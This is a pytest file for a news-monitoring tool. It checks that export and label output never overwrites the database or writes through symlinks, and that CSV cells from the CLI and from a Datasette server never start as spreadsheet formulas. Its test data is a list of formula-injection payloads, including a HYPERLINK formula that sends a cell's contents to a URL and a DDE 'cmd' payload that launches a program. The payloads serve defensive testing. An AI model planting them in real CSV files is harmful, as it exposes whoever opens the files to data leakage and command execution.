"""A slip of the operator and a hostile page, against the files newswatch writes
(issue 34, items 5 and 9): `export --output` and `labels --output` never write onto the
database or through a link, and a CSV export never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from monitor.browse import export
from monitor.browse.export import neutralise
from monitor.changes import Ingestor
from monitor.extract import content_hash
from monitor.store import Store, add_label

CLI = [sys.executable, "-m", "monitor.cli"]
HOSTILE = ['=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-2+3", "\tTAB", "＝HYPERLINK(1)"]


def _database(path: Path) -> Path:
    store = Store(path)
    ingest = Ingestor(store).ingest
    for i, title in enumerate(HOSTILE):
        text = f"{title} Vietnam and the United States sign a trade pact number {i}."
        ingest("hostile", [({"url": f"https://e.org/a-{i}", "title": title,
                              "author": title, "published": "2024-09-26T07:15:00+07:00",
                              "language": "en", "lead": None, "text": text,
                              "content_hash": content_hash(text)}, "u")])
    add_label(store, 1, "irrelevant")
    store.close()
    return path


def _run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["labels"]])
@pytest.mark.parametrize("how", ["same path", "symlink", "relative path"])
def test_output_never_overwrites_the_database(tmp_path: Path, command: list[str],
                                              how: str) -> None:
    db = _database(tmp_path / "news.db")
    before = db.read_bytes()
    if how == "same path":
        output = str(db)
    elif how == "symlink":
        (tmp_path / "out.csv").symlink_to(db)
        output = str(tmp_path / "out.csv")
    else:
        output = str(tmp_path / "." / "news.db")
    done = _run(*command, "--db", str(db), "--output", output)
    assert done.returncode == 2, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "is the database" in lines[0]
    assert db.read_bytes() == before
    assert not list(tmp_path.glob(".*.part"))  # no temporary file left


def test_output_replaces_a_symlink_instead_of_writing_through_it(tmp_path: Path) -> None:
    db = _database(tmp_path / "news.db")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    link = tmp_path / "export.jsonl"
    link.symlink_to(victim)
    done = _run("export", "--db", str(db), "--output", str(link))
    assert done.returncode == 0, done.stderr
    assert victim.read_text() == "keep me\n"
    assert not link.is_symlink() and len(link.read_text().splitlines()) == len(HOSTILE)


def test_a_failed_export_leaves_the_old_file(tmp_path: Path) -> None:
    db = tmp_path / "not-newswatch.db"
    db.write_bytes(b"SQLite format 3\x00" + b"\0" * 200)
    old = tmp_path / "old.csv"
    old.write_text("previous export\n")
    done = _run("export", "--db", str(db), "--output", str(old))
    assert done.returncode == 2
    assert old.read_text() == "previous export\n"


def test_csv_cells_are_never_formulas(tmp_path: Path) -> None:
    db = _database(tmp_path / "news.db")
    out = io.StringIO()
    assert export(db, out, "csv") == len(HOSTILE)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    titles = {row["title"] for row in rows}
    assert titles == {"'" + title for title in HOSTILE}
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (key, value)
    # JSON lines stay exact: they are data, not a spreadsheet
    out = io.StringIO()
    export(db, out, "jsonl")
    assert all(title in out.getvalue() for title in ['=HYPERLINK(', '@SUM(1+1)'])


def test_neutralise_by_first_character() -> None:
    assert neutralise("\rCR") == "'\rCR"
    assert neutralise("Vietnam = US?") == "Vietnam = US?"
    assert neutralise(-5) == -5 and neutralise(None) is None


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def test_datasette_csv_cells_are_never_formulas(tmp_path: Path) -> None:
    """Datasette's own ``.csv`` (a table, streamed or a page, a row, a canned query, a
    custom one with --allow-sql), through a real ``newswatch serve`` over HTTP: every
    cell a spreadsheet would run as a formula starts with a quote, as in ``newswatch
    export --format csv``; the JSON of the same rows stays exact."""
    from urllib.parse import urlencode

    from .test_serve_limits import Served

    db = _database(tmp_path / "news.db")
    paths = ["/news/articles.csv", "/news/articles.csv?_stream=on&_dl=1",
             "/news/articles.csv?_size=2", "/news/articles/1.csv",
             "/news/articles.csv?_labels=on",
             "/news/search.csv?" + urlencode({"q": "trade pact"}),
             "/news.csv?" + urlencode({"sql": "select title, author, 'x' || title as "
                                               "other from articles"})]
    for flags in ((), ("--allow-sql",)):
        server = Served(db, *flags)
        try:
            for path in paths if flags else paths[:-1]:
                status, body = server.get(path)
                assert status == 200, (path, status, body[:300])
                rows = _cells(body)
                assert len(rows) > 1, (path, body[:300])
                for row in rows:
                    for cell in row:
                        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (
                            path, cell)
                if "/articles" in path and "/1.csv" not in path and "_size" not in path:
                    titles = {row[rows[0].index("title")] for row in rows[1:]}
                    assert titles == {"'" + title for title in HOSTILE}, (path, titles)
            status, body = server.get("/news/articles.json?_shape=array&_col=title")
            assert status == 200
            assert {row["title"] for row in __import__("json").loads(body)} == set(HOSTILE)
        finally:
            server.stop()
